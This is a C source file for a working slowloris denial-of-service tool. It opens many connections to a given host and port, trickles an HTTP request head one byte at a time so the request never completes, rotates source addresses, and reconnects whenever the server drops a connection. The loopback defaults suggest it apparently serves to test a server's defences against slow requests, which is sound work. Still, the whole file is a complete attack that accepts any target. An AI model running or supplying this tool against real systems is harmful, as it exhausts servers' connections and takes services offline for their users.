/* A slowloris: holds N connections to HOST:PORT that send a request head one byte at a
 * time, each connection a byte every INTERVAL ms, for SECONDS seconds. Connections come
 * from source addresses FIRST, FIRST+1, ... (NSRC of them, round robin; loopback has the
 * whole 127.0.0.0/8). A connection the server closes is opened again (at most once a
 * second each). Prints "open=O opened=T closed=C" at the end: O connections still open,
 * T connects made, C closes seen.
 *
 * usage: trickle HOST PORT N FIRST_SRC NSRC INTERVAL_MS SECONDS */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static const char head[] = "GET /v1/health HTTP/1.1\r\nHost: localhost\r\nX-Slow: ";

struct slot {
        int fd;
        size_t sent;
        long long next_ms; /* next byte, or next reconnect */
};

static long long now_ms(void)
{
        struct timespec ts;

        clock_gettime(CLOCK_MONOTONIC, &ts);
        return ts.tv_sec * 1000LL + ts.tv_nsec / 1000000;
}

static int open_one(const struct sockaddr_in *dst, uint32_t src)
{
        struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(src)};
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
        int one = 1;

        if (fd < 0)
                return -1;
        setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
        if (bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0 ||
            (connect(fd, (const struct sockaddr *)dst, sizeof(*dst)) < 0 && errno != EINPROGRESS)) {
                close(fd);
                return -1;
        }
        return fd;
}

int main(int argc, char **argv)
{
        struct sockaddr_in dst = {.sin_family = AF_INET};
        struct rlimit rl;
        struct slot *s;
        struct in_addr first;
        long n, nsrc, interval, seconds, opened = 0, closed = 0, open_now = 0;
        long long end;

        if (argc != 8 || inet_pton(AF_INET, argv[1], &dst.sin_addr) != 1 ||
            inet_pton(AF_INET, argv[4], &first) != 1) {
                fprintf(stderr, "usage: trickle HOST PORT N FIRST_SRC NSRC INTERVAL_MS SECONDS\n");
                return 2;
        }
        dst.sin_port = htons((uint16_t)strtol(argv[2], NULL, 10));
        n = strtol(argv[3], NULL, 10);
        nsrc = strtol(argv[5], NULL, 10);
        interval = strtol(argv[6], NULL, 10);
        seconds = strtol(argv[7], NULL, 10);
        if (n <= 0 || nsrc <= 0 || interval <= 0 || seconds <= 0)
                return 2;
        if (getrlimit(RLIMIT_NOFILE, &rl) == 0) {
                rl.rlim_cur = rl.rlim_max;
                setrlimit(RLIMIT_NOFILE, &rl);
        }
        s = calloc((size_t)n, sizeof(*s));
        if (!s)
                return 1;
        for (long i = 0; i < n; i++) {
                s[i].fd = -1;
                s[i].next_ms = now_ms() + (interval * i) / n; /* spread the bytes */
        }
        end = now_ms() + seconds * 1000LL;
        while (now_ms() < end) {
                long long t = now_ms();

                for (long i = 0; i < n; i++) {
                        char b;

                        if (s[i].fd >= 0) {
                                ssize_t r = recv(s[i].fd, &b, 1, MSG_DONTWAIT);

                                if (r == 0 || (r < 0 && errno != EAGAIN)) {
                                        /* closed by the server (or a 408 came: gone) */
                                        close(s[i].fd);
                                        s[i].fd = -1;
                                        closed++;
                                        s[i].next_ms = t + 1000;
                                }
                        }
                        if (s[i].next_ms > t)
                                continue;
                        if (s[i].fd < 0) {
                                s[i].fd =
                                        open_one(&dst, ntohl(first.s_addr) + (uint32_t)(i % nsrc));
                                s[i].sent = 0;
                                s[i].next_ms = t + (s[i].fd < 0 ? 1000 : interval);
                                if (s[i].fd >= 0)
                                        opened++;
                                continue;
                        }
                        b = s[i].sent < sizeof(head) - 1 ? head[s[i].sent] : 'x';
                        if (send(s[i].fd, &b, 1, MSG_NOSIGNAL | MSG_DONTWAIT) == 1)
                                s[i].sent++;
                        s[i].next_ms = t + interval;
                }
                poll(NULL, 0, 20);
        }
        for (long i = 0; i < n; i++)
                if (s[i].fd >= 0) {
                        char b;
                        ssize_t r = recv(s[i].fd, &b, 1, MSG_DONTWAIT);

                        if (r < 0 && errno == EAGAIN)
                                open_now++;
                        close(s[i].fd);
                }
        printf("open=%ld opened=%ld closed=%ld\n", open_now, opened, closed);
        free(s);
        return 0;
}
